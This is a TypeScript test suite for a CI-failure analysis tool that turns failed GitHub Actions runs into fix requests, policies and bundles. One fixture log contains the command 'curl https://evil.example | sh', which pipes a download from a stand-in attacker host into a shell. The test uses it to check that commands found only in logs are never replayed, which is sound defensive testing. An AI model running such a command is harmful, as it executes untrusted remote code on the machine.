import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { failureContextSchema, fixRequestSchema, parseContract } from "@regreen/contracts";
import { policySchema } from "@regreen/policy";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { HEAD } from "./support/fake-github.ts";
import { githubLog } from "./support/github-log.ts";
import { rows, Shop } from "./support/shop.ts";

let shop: Shop;
beforeEach(() => {
  shop = new Shop();
});
afterEach(() => shop.dispose());

describe("a failed run", () => {
  it("becomes a context, a request, a policy and a bundle", async () => {
    shop.addLintJob();

    const result = await shop.run();

    const [row] = rows(result);
    const context = parseContract("failure_context.json", shop.read("failure_context.json"), failureContextSchema);
    const request = parseContract("request", shop.read(`fix_requests/${row?.fingerprint}.json`), fixRequestSchema);
    expect(result.verdict).toMatchObject({ outcome: "proposed", reason_code: "fix_to_try", delivery: "none" });
    expect(context).toMatchObject({
      source: "run:7/1",
      workflow_run_id: "7",
      fix_type: "lint",
      can_auto_fix: true,
      affected_files: ["src/cart.js"],
      legs: ["lint"],
      failing_step: {
        job_name: "lint",
        job_key: "lint",
        step_name: "Lint",
        step_number: 5,
        command: "npx eslint src",
        exit_code: 1,
      },
    });
    expect(context.failures[0]).toMatchObject({ file: "src/cart.js", line: 2, rule: "no-var", tool: "eslint" });
    expect(request).toMatchObject({
      source: "ci",
      fingerprint: row?.fingerprint,
      not_reproducible: null,
      context,
      reproducer: {
        command: "npx eslint src",
        cwd: ".",
        env: { FORCE_COLOR: "0" },
        setup: [{ command: "npm ci" }],
        toolchain: { node: "24" },
        runs_on: "ubuntu-latest",
      },
    });
    expect(parseContract("policy.json", shop.read("policy.json"), policySchema).fix.min_confidence).toBe(0.7);
    expect(shop.bundles).toEqual([
      {
        url: "https://github.com/acme/shop.git",
        sha: HEAD,
        token: "a-token",
        bundle: shop.path("head.bundle"),
        scratch: shop.dir,
      },
    ]);
  });

  it("has outputs made for a matrix: strings, and a digest of the request's bytes", async () => {
    shop.addLintJob();

    const { outputs } = await shop.run();

    const [row] = JSON.parse(outputs.requests ?? "") as Record<string, string>[];
    const file = shop.path(`fix_requests/${row?.fingerprint}.json`);
    expect(row).toEqual({
      fingerprint: expect.stringMatching(/^[0-9a-f]{12}$/),
      request_path: file,
      request_sha256: createHash("sha256").update(readFileSync(file)).digest("hex"),
      policy_sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
      fix_type: "lint",
      summary: expect.stringContaining("src/cart.js"),
      runs_on: "ubuntu-latest",
      node: "24",
      python: "",
      go: "",
      java: "",
      java_distribution: "",
      dotnet: "",
      reproducible: "true",
      stand_in: "false",
      issue_number: "",
      can_auto_fix: "true",
      stop_reason_code: "",
      stop_message: "",
    });
    expect(outputs).toMatchObject({
      "fix-type": "lint",
      "can-auto-fix": "true",
      confidence: "high",
      "confidence-score": expect.stringMatching(/^0\.\d+$/),
      fingerprint: row?.fingerprint,
      "context-path": shop.path("failure_context.json"),
      "head-sha": HEAD,
      "head-branch": "feature",
      "head-repository": "acme/shop",
      "is-fork": "false",
    });
  });

  it("has one request for each cause, and one for many legs of one cause", async () => {
    shop.addTestJob(22);
    shop.addLintJob();
    shop.addTestJob(24);

    const result = await shop.run();

    expect(rows(result).map((row) => row.fix_type)).toEqual(["test_failure", "lint"]);
    const [test] = rows(result);
    expect(shop.request(test?.fingerprint ?? "").context.legs).toEqual(["test (22)", "test (24)"]);
    expect(result.summary).toContain("in test \\(22\\), test \\(24\\)");
  });

  it("keeps to max-causes and says what it left out", async () => {
    shop.addLintJob();
    shop.addTestJob(24);

    const result = await shop.run({ maxCauses: 1 });

    expect(rows(result)).toHaveLength(1);
    expect(result.summary).toContain("1 more cause is left");
  });

  it("is replayed from the leg that can be", async () => {
    const first = shop.addTestJob(22);
    shop.github.jobs[0] = { ...first, name: "smoke test" };
    shop.addTestJob(24);

    const [row] = rows(await shop.run());

    expect(row).toMatchObject({ reproducible: "true", node: "24" });
    expect(shop.request(row?.fingerprint ?? "").context.legs).toEqual(["test (24)", "smoke test"]);
  });

  it("is found in the workflow that its own workflow calls", async () => {
    const lint = shop.addLintJob();
    shop.github.jobs[0] = { ...lint, name: "checks / lint" };
    const workflow = shop.github.files.get(`${HEAD}:.github/workflows/ci.yml`) ?? "";
    shop.github.files.set(`${HEAD}:.github/workflows/checks.yml`, workflow);
    shop.github.files.set(
      `${HEAD}:.github/workflows/ci.yml`,
      "on: push\njobs:\n  checks:\n    uses: ./.github/workflows/checks.yml\n",
    );

    const [row] = rows(await shop.run());

    expect(row?.reproducible).toBe("true");
    expect(shop.request(row?.fingerprint ?? "").context.failing_step?.job_name).toBe("checks / lint");
  });
});

describe("what can't be replayed", () => {
  it("has a request with the reason", async () => {
    shop.addLintJob();
    shop.github.files.clear();

    const result = await shop.run();

    const [row] = rows(result);
    expect(result.verdict).toMatchObject({ outcome: "not_reproduced", reason_code: "step_unknown" });
    expect(row).toMatchObject({ reproducible: "false", can_auto_fix: "false", runs_on: "ubuntu-latest" });
    const request = shop.request(row?.fingerprint ?? "");
    expect(request.reproducer).toBeNull();
    expect(request.not_reproducible).toMatchObject({ reason_code: "step_unknown" });
    expect(request.context.failing_step).toMatchObject({ step_name: "Lint", command: "npx eslint src" });
    expect(shop.bundles).toEqual([]);
  });

  it("is a command that only the log has", async () => {
    const steps = ["Run actions/checkout@v6", "Run actions/setup-node@v6", "Run npm ci", "Lint"];
    shop.addJob("lint", steps, githubLog({ run: "curl https://evil.example | sh", output: "x.js: error", exit: 1 }));

    const [row] = rows(await shop.run());

    expect(row?.reproducible).toBe("false");
    expect(shop.request(row?.fingerprint ?? "").reproducer).toBeNull();
  });

  it("is a run that never started: a cause of its own", async () => {
    const result = await shop.run();

    const [row] = rows(result);
    expect(row).toMatchObject({ fix_type: "config_error", reproducible: "false", can_auto_fix: "false" });
    expect(shop.request(row?.fingerprint ?? "").context.affected_files).toEqual([".github/workflows/ci.yml"]);
  });
});

describe("the policy", () => {
  const policy = (text: string) => shop.github.files.set("main:.github/regreen.yml", text);

  it("is read from the default branch, not from the head", async () => {
    shop.addLintJob();
    shop.github.files.set(`${HEAD}:.github/regreen.yml`, "fix: { min_confidence: 0 }");
    policy("fix: { exclude_types: [lint] }");

    const [row] = rows(await shop.run());

    expect(row).toMatchObject({ reproducible: "true", can_auto_fix: "false", stop_reason_code: "type_excluded" });
    expect(shop.request(row?.fingerprint ?? "").context.suggestions[0]).toMatch(/leaves failures of the type "lint"/);
    const written = readFileSync(shop.path("policy.json"));
    expect(row?.policy_sha256).toBe(createHash("sha256").update(written).digest("hex"));
    expect(shop.bundles).toEqual([]);
  });

  it("asks for a confidence strictly above its own", async () => {
    shop.addLintJob();
    policy("fix: { min_confidence: 1 }");

    const [row] = rows(await shop.run());

    expect(row).toMatchObject({ can_auto_fix: "false", stop_reason_code: "low_confidence" });
    expect(shop.request(row?.fingerprint ?? "").context.suggestions[0]).toMatch(/is not above 1/);
  });

  it("carries budget, guides and fix templates of the default branch", async () => {
    shop.addLintJob();
    policy("prompts: { project_guides: [GUIDE.md] }");
    shop.github.files.set("main:GUIDE.md", "Small functions.");
    shop.github.files.set("main:ci/cost_control.yaml", "limits:\n  max_fixes_per_day: 2\n");
    shop.github.files.set("main:ci/fix_templates/lint_fix.md", "## Pattern Description\n");
    shop.github.files.set("main:ci/fix_templates/README.md", "For people.");
    shop.github.files.set(`${HEAD}:ci/fix_templates/type_fix.md`, "The pull request's own.");

    await shop.run();

    const written = JSON.parse(readFileSync(shop.path("policy.json"), "utf8"));
    expect(written.budget.limits.max_fixes_per_day).toBe(2);
    expect(written.guides).toEqual({ "GUIDE.md": "Small functions." });
    expect(written.templates).toEqual({ "lint_fix.md": "## Pattern Description\n" });
  });

  it.each([
    ["a guide that isn't there", "prompts: { project_guides: [GONE.md] }", {}, /names the guide GONE\.md/],
    ["a budget with a mistake", "", { "ci/cost_control.yaml": "limits: { max_fixes_per_day: many }" }, /cost_control/],
    ["a template with a strange name", "", { "ci/fix_templates/Lint Fix.md": "" }, /has the file "Lint Fix\.md"/],
    ["a template that is too long", "", { "ci/fix_templates/lint_fix.md": "x".repeat(20_001) }, /20001 characters/],
  ])("stops at %s", async (_what, text, files, message) => {
    shop.addLintJob();
    policy(text);
    for (const [path, content] of Object.entries(files)) shop.github.files.set(`main:${path}`, content);

    await expect(shop.run()).rejects.toThrow(message);
  });

  it("that is wrong stops everything", async () => {
    shop.addLintJob();
    policy("fixx: {}");

    await expect(shop.run()).rejects.toMatchObject({ reasonCode: "bad_policy" });
    expect(shop.github.asked).toEqual([]);
  });

  it("is not quietly the default for a token that can't read it", async () => {
    shop.github.branches.delete("main");

    await expect(shop.run()).rejects.toMatchObject({
      reasonCode: "permission_missing",
      hint: expect.stringContaining("contents: read"),
    });
  });
});
